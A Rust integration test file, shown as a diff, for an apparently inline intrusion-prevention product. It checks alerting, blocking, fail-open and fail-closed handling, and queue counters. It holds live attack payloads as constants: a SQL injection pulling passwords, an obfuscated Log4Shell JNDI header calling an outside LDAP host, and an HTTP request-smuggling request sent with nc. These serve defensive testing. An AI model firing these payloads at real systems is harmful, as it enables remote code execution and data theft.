@@ -1,0 +1,214 @@
+//! Packets of pods in Protect wait for inspection: attacks are stopped before they arrive, over IPv4 and IPv6, and what
+//! becomes of packets without an inspector is the group's to say.
+
+use std::net::IpAddr;
+use std::time::{Duration, Instant};
+
+use anyhow::{Context as _, Result, ensure};
+use nv_lab::{Output, Pod};
+use nv_scene::{CLIENT_GROUP, Scene};
+use rustix::process::{Pid, Signal, kill_process};
+use serde_json::{Value, json};
+
+const INJECTION: &str = "/items?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20";
+const LOOKUP: &str = "X-Api-Version: ${${lower:j}ndi:${::-l}dap://198.51.100.7/a}";
+/// Two servers would end it at different bytes.
+const SMUGGLED: &str = r"POST /items HTTP/1.1\r\nHost: shop\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG";
+const ATTACKS: [&str; 3] = ["SQL.Injection", "Log4Shell.Remote.Code.Execution", "HTTP.Request.Smuggling"];
+
+fn address(pod: &Pod, six: bool) -> Result<IpAddr> {
+    if six { pod.ipv6() } else { pod.ipv4() }.context("the pod has no such address")
+}
+
+/// As a part of a URL.
+fn host(address: IpAddr) -> String {
+    if address.is_ipv6() { format!("[{address}]") } else { address.to_string() }
+}
+
+fn text<'a>(value: &'a Value, key: &str) -> &'a str {
+    value.get(key).and_then(Value::as_str).unwrap_or_default()
+}
+
+/// Modes of the network alone: programs are not what these tests are about.
+async fn set_mode(scene: &Scene, mode: &str, fail_mode: &str) -> Result<()> {
+    let services = ["web.shop", "echo.shop", "client.shop"];
+    let config = json!({"config": {"services": services, "policy_mode": mode, "fail_mode": fail_mode}});
+    scene.api.patch("/v1/service/config", &config).await?;
+    scene.wait_mode(mode).await
+}
+
+async fn get(scene: &Scene, six: bool, path: &str, header: Option<&str>) -> Result<Output> {
+    let url = format!("http://{}{path}", host(address(&scene.web, six)?));
+    let mut command = vec!["/bin/timeout", "3", "/bin/wget", "-q", "-O", "-"];
+    command.extend(header.iter().flat_map(|header| ["--header", header]));
+    command.push(&url);
+    scene.run(&command).await
+}
+
+/// What each of the attacks is answered with: empty when it is cut off.
+async fn attack(scene: &Scene, six: bool) -> Result<[String; 3]> {
+    let said = |output: Output| format!("{}{}", output.stdout, output.stderr);
+    let injected = said(get(scene, six, INJECTION, None).await?);
+    let looked_up = said(get(scene, six, "/index.html", Some(LOOKUP)).await?);
+    let server = address(&scene.web, six)?;
+    let smuggle = format!("printf '{SMUGGLED}' | nc -w 3 {server} 80 2>&1");
+    let smuggled = said(scene.run(&["/bin/sh", "-c", &smuggle]).await?);
+    Ok([injected, looked_up, smuggled])
+}
+
+/// The newest record of an attack by the client on the server that was dealt with so.
+fn threat(answer: &Value, name: &str, action: &str, server: IpAddr) -> Option<Value> {
+    let threats = answer.get("threats")?.as_array()?;
+    threats
+        .iter()
+        .find(|record| {
+            text(record, "name") == name
+                && text(record, "action") == action
+                && text(record, "client_workload_service") == CLIENT_GROUP
+                && text(record, "server_ip") == server.to_string()
+        })
+        .cloned()
+}
+
+async fn told(scene: &Scene, name: &str, action: &str, server: IpAddr) -> Result<()> {
+    scene
+        .api
+        .wait_for("/v1/log/threat", Duration::from_secs(10), |answer| threat(answer, name, action, server))
+        .await
+        .with_context(|| format!("{name} on {server} is not told with {action}"))
+        .map(drop)
+}
+
+/// A counter of the only enforcer.
+async fn counter(scene: &Scene, name: &str) -> Result<u64> {
+    let listed = scene.api.get("/v1/enforcer").await?;
+    let id = listed.pointer("/enforcers/0/id").and_then(Value::as_str).context("no enforcer")?.to_owned();
+    let answer = scene.api.get(&format!("/v1/enforcer/{id}/counter")).await?;
+    let found = answer.pointer("/counter/counters").and_then(|counters| counters.get(name));
+    found.and_then(Value::as_u64).with_context(|| format!("no counter {name} in {answer}"))
+}
+
+/// Waits until a number of queues is there.
+async fn wait_queues(scene: &Scene, queues: u64) -> Result<()> {
+    let start = Instant::now();
+    while counter(scene, "inspection.queues").await? != queues {
+        ensure!(start.elapsed() < Duration::from_secs(20), "there are not {queues} queues");
+        tokio::time::sleep(Duration::from_millis(500)).await;
+    }
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn attacks_are_stopped_in_protect_and_reported_in_monitor_in_both_families() -> Result<()> {
+    let scene = Scene::start("inline").await?;
+    scene.operate().await?;
+    scene.wait_learned().await?;
+
+    set_mode(&scene, "Monitor", "open").await?;
+    for six in [false, true] {
+        let [injected, looked_up, smuggled] = attack(&scene, six).await?;
+        ensure!(injected.contains("404"), "the injection: {injected}");
+        ensure!(looked_up.contains("shop"), "the lookup: {looked_up}");
+        ensure!(smuggled.contains("HTTP/1."), "the smuggled request: {smuggled}");
+        for name in ATTACKS {
+            told(&scene, name, "alert", address(&scene.web, six)?).await?;
+        }
+    }
+
+    set_mode(&scene, "Protect", "open").await?;
+    wait_queues(&scene, 3).await?;
+    for six in [false, true] {
+        let ordinary = get(&scene, six, "/index.html", None).await?;
+        ensure!(ordinary.exit_code == 0 && ordinary.stdout.contains("shop"), "{}", ordinary.stderr);
+        let [injected, looked_up, smuggled] = attack(&scene, six).await?;
+        for answer in [&injected, &looked_up] {
+            ensure!(answer.contains("reset"), "the attacker was not cut off: {answer}");
+        }
+        ensure!(!smuggled.contains("HTTP/1."), "the smuggled request: {smuggled}");
+        for name in ATTACKS {
+            told(&scene, name, "deny", address(&scene.web, six)?).await?;
+        }
+        let again = get(&scene, six, "/index.html", None).await?;
+        ensure!(again.exit_code == 0, "whoever attacks is not shut out: {}", again.stderr);
+    }
+
+    set_mode(&scene, "Monitor", "open").await?;
+    wait_queues(&scene, 0).await?;
+    let [injected, ..] = attack(&scene, false).await?;
+    ensure!(injected.contains("404"), "the injection: {injected}");
+    scene.stop().await
+}
+
+/// The process of the inspector.
+fn inspector(launcher: u32) -> Option<Pid> {
+    let is_inspector = |pid: &u32| {
+        let line = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+        line.split(|byte| *byte == 0).any(|word| word == b"inspector")
+    };
+    let pid = nv_product::children(launcher).into_iter().find(is_inspector)?;
+    Pid::from_raw(pid.cast_signed())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn without_an_inspector_traffic_goes_on_or_does_not_as_the_group_says() -> Result<()> {
+    let scene = Scene::start("inline-fault").await?;
+    scene.operate().await?;
+    scene.wait_learned().await?;
+    let launcher = scene.product.children().first().copied().context("no launcher")?;
+    let process = Pid::from_raw(launcher.cast_signed()).context("no launcher")?;
+    for (fail_mode, passes) in [("open", true), ("closed", false)] {
+        set_mode(&scene, "Protect", fail_mode).await?;
+        wait_queues(&scene, 3).await?;
+        for signal in [Signal::STOP, Signal::KILL] {
+            let before = get(&scene, false, "/index.html", None).await?;
+            ensure!(before.exit_code == 0, "{fail_mode}: {}", before.stderr);
+            let one = inspector(launcher).context("no inspector")?;
+            // Nobody starts another one for the moment.
+            kill_process(process, Signal::STOP)?;
+            kill_process(one, signal)?;
+            tokio::time::sleep(Duration::from_secs(1)).await;
+            for six in [false, true] {
+                let without = get(&scene, six, "/index.html", None).await?;
+                ensure!(
+                    (without.exit_code == 0) == passes,
+                    "{fail_mode}, {signal:?}: {} {}",
+                    without.exit_code,
+                    without.stderr
+                );
+            }
+            kill_process(process, Signal::CONT)?;
+            if signal == Signal::STOP {
+                kill_process(one, Signal::CONT)?;
+            }
+            let start = Instant::now();
+            while get(&scene, false, INJECTION, None).await?.stderr.contains("404")
+                || get(&scene, false, "/index.html", None).await?.exit_code != 0
+            {
+                ensure!(start.elapsed() < Duration::from_secs(40), "{fail_mode}: inspection is not back");
+                tokio::time::sleep(Duration::from_millis(500)).await;
+            }
+        }
+    }
+    set_mode(&scene, "Discover", "open").await?;
+    wait_queues(&scene, 0).await?;
+    scene.stop().await
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_connection_of_which_nothing_more_is_to_be_known_waits_no_more() -> Result<()> {
+    let scene = Scene::start("inline-clean").await?;
+    scene.operate().await?;
+    scene.wait_learned().await?;
+    set_mode(&scene, "Protect", "closed").await?;
+    wait_queues(&scene, 3).await?;
+    let echo = format!("{}:7", scene.echo_address()?);
+    let before = counter(&scene, "inspection.queue_packets").await?;
+    let output = scene.run(&["/bin/attacker", "talk", &echo, "3000"]).await?;
+    ensure!(output.exit_code == 0, "{}", output.stderr);
+    tokio::time::sleep(Duration::from_secs(6)).await;
+    let asked = counter(&scene, "inspection.queue_packets").await?.saturating_sub(before);
+    ensure!(asked > 2, "nothing waited");
+    ensure!(asked < 600, "{asked} packets of 3,000 questions and answers waited");
+    ensure!(counter(&scene, "inspection.queue_clean").await? > 0, "no connection is clean");
+    scene.stop().await
+}
